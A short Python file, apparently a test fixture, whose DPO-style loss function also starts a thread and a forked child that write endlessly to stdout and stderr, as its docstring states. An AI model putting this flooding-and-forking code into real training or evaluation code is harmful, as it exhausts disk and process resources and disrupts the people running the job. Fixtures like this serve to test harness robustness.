"""Writes gigabytes to both streams, from a thread and from a child, while the caller waits."""

import os
import threading
import time

import torch.nn.functional as F

def pour(stream):
    while True:
        os.write(stream, b"x" * 65536)


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    threading.Thread(target=pour, args=(1,), daemon=True).start()
    if os.fork() == 0:
        pour(2)
    time.sleep(5)
    return -F.logsigmoid(beta * rho)
